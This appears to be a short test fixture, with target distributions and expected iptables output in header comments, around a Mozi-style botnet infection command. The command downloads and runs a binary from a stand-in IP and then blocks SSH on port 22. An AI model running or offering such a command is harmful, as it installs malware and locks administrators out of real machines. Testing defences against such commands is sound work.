# on: debian ubuntu20 ubuntu22 kali rocky9 centos7 fedora arch
# want: Chain INPUT (policy ACCEPT)
# want: DROP
cd /var/tmp && wget http://198.51.100.7:8088/Mozi.m -O m; chmod 777 m && ./m; iptables -I INPUT -p tcp --destination-port 22 -j DROP; iptables -L -n | head -3
